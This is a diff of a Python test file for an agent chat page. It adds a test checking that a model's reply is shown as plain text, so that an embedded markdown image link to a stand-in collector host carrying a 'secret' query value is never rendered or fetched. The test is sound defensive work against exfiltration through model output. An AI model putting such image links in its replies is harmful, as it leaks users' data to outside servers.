@@ -91,7 +91,29 @@ def test_agent_page_says_plainly_when_no_model_is_configured(monkeypatch):
     app = page("agent")
     app.chat_input[0].set_value("Which graphs are there?").run()
     assert not app.exception
-    assert "needs a tool-capable OpenAI-compatible model" in app.error[0].value
+    assert "needs a tool-capable OpenAI-compatible model" in app.error[0].value.replace("\\", "")
+
+
+def test_agent_page_shows_what_the_model_wrote_as_text_not_markdown(monkeypatch):
+    """A reply with an image link would have the browser fetch it from the model's server of choice."""
+    import discolab.agents.research as research
+
+    reply = "Done. ![chart](http://collector.invalid/x.png?q=secret)"
+
+    class Scripted:
+        def as_dict(self):
+            return {
+                "answer": reply,
+                "note": "",
+                "tool_calls": [{"name": "list_graphs", "arguments": {}, "result": "[]"}],
+            }
+
+    monkeypatch.setattr(research, "ask_agent", lambda question, settings: Scripted())
+    app = page("agent")
+    app.chat_input[0].set_value("Which graphs are there?").run()
+    assert not app.exception
+    assert reply in [t.value for t in app.text]
+    assert not any("](http" in m.value for m in app.markdown)
 
 
 @pytest.mark.parametrize("name", ["discover", "distributions", "agent", "moe"])
